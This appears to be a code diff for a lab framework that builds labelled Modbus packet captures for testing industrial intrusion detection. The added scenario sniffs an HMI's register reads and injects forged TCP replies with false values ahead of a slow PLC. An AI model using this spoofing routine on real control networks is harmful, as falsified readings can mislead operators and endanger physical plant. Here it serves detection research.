@@ -3,14 +3,18 @@
 from __future__ import annotations
 
 import asyncio
+import socket
 import struct
 import time
 
+from compose.plant import frames
 from compose.plant import modbus_master as master
-from compose.plant.addresses import MODBUS_PORT, ip
+from compose.plant.addresses import MODBUS_PORT, ip, mac
 from compose.plant.catalogue import capture
 from compose.plant.cell import modbus_cell
+from compose.plant.frames import ACK, PSH
 from compose.plant.lab import Lab
+from compose.plant.modbus_device import Controller
 from compose.plant.proofs_modbus import NORMAL, WARM_UP
 
 RESERVED = (0, 9, 10, 18, 19, 65, 66, 72, 100, 105, 110, 0x81, 0x90)
@@ -151,3 +155,53 @@ def two_different_answers(lab: Lab) -> None:
     """Every third request gets a second answer with other values."""
     server = OddServer("plc2", ((0,), (0,), (0, 700)))
     _ask_odd(lab, server, "second, different answer", ["T0856", "T0832"], ["MB16"])
+
+
+def _forged_answer(request: bytes) -> bytes | None:
+    """Return a frame that answers a captured read of input registers with false values, None for other frames."""
+    if request[12:14] != b"\x08\x00" or request[23] != socket.IPPROTO_TCP:
+        return None
+    start = 14 + 4 * (request[14] & 0x0F)
+    source_port, port, sequence, acknowledgement, offset = struct.unpack(">HHIIB", request[start : start + 13])
+    payload = request[start + 4 * (offset >> 4) :]
+    if port != MODBUS_PORT or payload[7:8] != b"\x04":
+        return None
+    count = struct.unpack(">H", payload[10:12])[0]
+    pdu = bytes([4, 2 * count]) + struct.pack(f">{count}H", *[1234] * count)
+    answer = payload[:4] + struct.pack(">H", len(pdu) + 1) + payload[6:7] + pdu
+    receiver = (ip("hmi"), source_port), PSH | ACK, acknowledgement, sequence + len(payload)
+    segment = frames.tcp((ip("plc1"), MODBUS_PORT), *receiver, answer)
+    return frames.ethernet(mac("plc1"), mac("hmi"), frames.ETHERTYPE_IPV4, segment)
+
+
+@capture(
+    "modbus/answer-injected.pcap",
+    "An attacker who sees the traffic answers before the slow controller: right numbers, false values.",
+    "plc1 hmi att",
+    rules="MB16",
+    learn=NORMAL,
+    check={"tcp.analysis.retransmission || tcp.analysis.spurious_retransmission || tcp.analysis.out_of_order": 3},
+)
+def answer_injected(lab: Lab) -> None:
+    """The attacker's tap is the sensor's mirror port; every second read is answered falsely, four times."""
+
+    def inject(tap: socket.socket) -> None:
+        done, end = 0, time.monotonic() + 10
+        with frames.packet_socket() as out:
+            while done < 8 and time.monotonic() < end:
+                forged = _forged_answer(tap.recv(2048))
+                if forged is not None:
+                    done += 1
+                    if done % 2:
+                        out.send(forged)
+
+    with modbus_cell(lab, (), devices=()) as cell:
+        cell.start_device("plc1", Controller("plc1", (ip("plc1"), MODBUS_PORT), delay=0.12))
+        cell.poll("hmi", "plc1")
+        time.sleep(WARM_UP)
+        tap = lab["sensor"].call(frames.packet_socket, "mon0", frames.EVERYTHING)
+        tap.settimeout(3)
+        with lab.step("forged answer injected", "att", "hmi", ["T0856", "T0832", "T0830"], ["MB16"]):
+            lab["att"].call(inject, tap)
+        tap.close()
+        time.sleep(1)
